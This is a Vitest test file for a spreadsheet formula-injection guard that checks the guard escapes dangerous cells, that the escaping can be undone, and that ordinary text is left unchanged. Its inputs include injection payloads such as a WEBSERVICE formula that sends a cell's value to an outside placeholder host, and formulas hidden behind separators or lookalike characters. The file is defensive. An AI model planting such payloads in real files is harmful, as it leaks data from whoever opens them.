import { expect, test } from 'vitest'
import { guardCell, unguardCell } from '../../src/text/guard-cell.ts'

test.each([
  ['=WEBSERVICE("http://a/"&A1)', '\'=WEBSERVICE("http://a/"&A1)'],
  ['=IMAGE("http://a")', '\'=IMAGE("http://a")'],
  ['+1', "'+1"],
  ['-2 °C', "'-2 °C"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['＝1+1', "'＝1+1"],
  ['\t=1+1', "\t'=1+1"],
  ['\rx', "'\rx"],
  // Where semicolons separate cells, or a reader ends the line.
  ['a;=WEBSERVICE(A2);b', "a;'=WEBSERVICE(A2);b"],
  ['a\n=1+1', "a\n'=1+1"],
  ['a\t@x', "a\t'@x"],
])('no spreadsheet runs %j', (cell, guarded) => {
  expect(guardCell(cell)).toBe(guarded)
  expect(unguardCell(guarded)).toBe(cell)
})

test.each(["'t Horntje", "Hawai'i; 'x", "it's = so"])('the apostrophes of %j are its own', (text) => {
  expect(unguardCell(guardCell(text))).toBe(text)
})

test.each(['Prochlorococcus', 'a = b; c - d', '22.75° N', '', -2, 0, true, null])('%j stays as it is', (cell) => {
  expect(guardCell(cell)).toBe(cell)
})
